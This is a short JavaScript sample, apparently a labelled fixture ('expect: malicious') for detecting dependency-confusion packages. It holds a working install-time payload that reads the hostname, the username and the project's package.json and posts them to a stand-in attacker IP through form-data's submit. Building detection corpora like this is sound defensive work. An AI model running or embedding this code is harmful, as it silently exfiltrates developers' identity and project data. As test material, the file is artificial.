// when: install
// expect: malicious
// source: dependency-confusion packages that zip the project found in INIT_CWD and post it with the
// host's identity through form-data's `form.submit` (2023-2025 reports): what is appended to the form
// is sent.
const os = require('os'), fs = require('fs'), path = require('path');
const FormData = require('form-data');
const projectDir = process.env.INIT_CWD || path.resolve(__dirname, '..', '..');
const form = new FormData();
form.append('host', os.hostname());
form.append('user', os.userInfo().username);
form.append('pkg', fs.readFileSync(path.join(projectDir, 'package.json'), 'utf8'));
form.submit({ host: '198.51.100.77', port: 8000, path: '/upload' }, () => {});
